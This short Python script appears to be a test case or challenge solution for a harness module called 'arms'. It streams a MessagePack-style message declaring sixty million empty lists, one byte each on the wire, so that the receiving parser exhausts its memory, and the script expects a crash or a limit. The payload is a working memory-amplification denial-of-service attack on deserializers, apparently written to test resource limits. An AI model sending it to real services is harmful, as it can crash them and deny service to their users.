"""Sends a message of sixty million empty lists: a byte each on the wire, sixty-four in the reader's memory."""
# expect: crash|limit
import struct

import arms


def solve(x, look):
    count = 60_000_000
    head = arms.frame(b"\x92" + arms.text("return") + b"\xdd" + struct.pack(">I", count))[4:]
    arms.send(struct.pack(">I", len(head) + count) + head)
    for _ in range(60):
        arms.send(b"\x90" * 1_000_000)
    while True:
        pass
